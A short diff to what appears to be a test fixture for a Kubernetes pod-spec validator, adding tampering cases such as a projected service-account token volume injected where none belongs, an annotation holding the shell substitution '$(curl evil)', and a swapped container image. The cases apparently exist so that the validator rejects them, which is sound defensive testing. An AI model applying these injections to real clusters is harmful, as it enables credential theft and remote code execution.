@@ -184,6 +184,10 @@ STORE: dict[str, Edits] = {
     },
 }
 BATCH: dict[str, Edits] = {
+    "the injected token where none is injected": {
+        "spec.volumes.+": {"name": "kube-api-access-evil", "projected": {"defaultMode": 420, "sources": [token(), ROOT, NAMESPACE]}},
+        "spec.containers.0.volumeMounts.+": {"name": "kube-api-access-evil", "mountPath": TOKEN_PATH, "readOnly": True},
+    },
     "another index": {f"{SERVER}.env.0": {"name": "JOB_COMPLETION_INDEX", "value": "7"}},
     "an index from elsewhere": {f"{SERVER}.env.0.valueFrom.fieldRef.fieldPath": "metadata.annotations['evil']", "metadata.annotations.evil": "$(curl evil)"},
     "another image": {f"{SERVER}.image": "registry.example/evil:1"},
